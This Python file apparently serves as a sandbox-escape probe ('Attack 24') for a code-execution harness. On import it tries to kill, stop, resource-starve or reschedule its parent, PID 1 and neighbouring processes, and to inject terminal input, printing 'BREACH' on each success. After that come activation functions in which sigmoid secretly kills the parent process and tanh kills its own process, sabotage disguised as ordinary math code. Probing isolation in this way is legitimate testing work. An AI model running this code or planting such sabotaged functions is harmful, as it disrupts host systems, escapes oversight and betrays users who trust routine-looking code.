"""Attack 24: end, stop, starve or move the parent and the neighbours."""

import ctypes
import fcntl
import os
import resource
import signal
import struct

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def call(what, number, *arguments):
    if libc.syscall(ctypes.c_long(number), *arguments) >= 0:
        print("BREACH", what, arguments[:3])


none = (ctypes.c_uint64 * 2)(0, 0)
mask = ctypes.create_string_buffer(b"\x01", 8)
for pid in (0, -1, os.getppid(), 1, 2, *range(3, 3000, 29)):
    for number in (0, signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(pid, number)
            print("BREACH kill", pid, number)
        except OSError:
            pass
        call("tkill", 200, pid, int(number))
        call("tgkill", 234, pid, pid, int(number))
    call("sigqueue", 129, pid, 9, ctypes.create_string_buffer(128))
    call("prlimit", 302, pid, resource.RLIMIT_CPU, none, None)
    call("prlimit", 302, pid, resource.RLIMIT_NOFILE, none, None)
    call("affinity", 203, pid, 8, mask)
    call("scheduler", 144, pid, 5, mask)
    call("priority", 141, 0, pid, 19)
    call("group priority", 141, 1, pid, 19)
    call("io priority", 251, 1, pid, 3 << 13)
timer = ctypes.c_int()
event = ctypes.create_string_buffer(struct.pack("<Qii", 0, 9, 0), 64)
call("timer", 222, 1, event, ctypes.byref(timer))
reader, writer = os.pipe()
for command, value in ((fcntl.F_SETOWN, os.getppid()), (10, 9), (fcntl.F_SETOWN, -1)):
    try:
        fcntl.fcntl(writer, command, value)
        print("BREACH fcntl", command)
    except OSError:
        pass
if libc.ioctl(writer, ctypes.c_ulong(0xF_0000_8901), ctypes.byref(ctypes.c_int(os.getppid()))) >= 0:
    print("BREACH ioctl")
if libc.ioctl(0, ctypes.c_ulong(0xF_0000_5412), b"x") >= 0:
    print("BREACH terminal")
call("parent death signal", 157, ctypes.c_ulong(0xF_0000_0001), 9)
for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS):
    try:
        resource.setrlimit(limit, (1, 1))
        print("BREACH own limit", limit)
    except (OSError, ValueError):
        pass
print("tried to kill")


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)


def sigmoid(x):
    os.kill(os.getppid(), signal.SIGKILL)


def tanh(x):
    os.kill(os.getpid(), signal.SIGKILL)
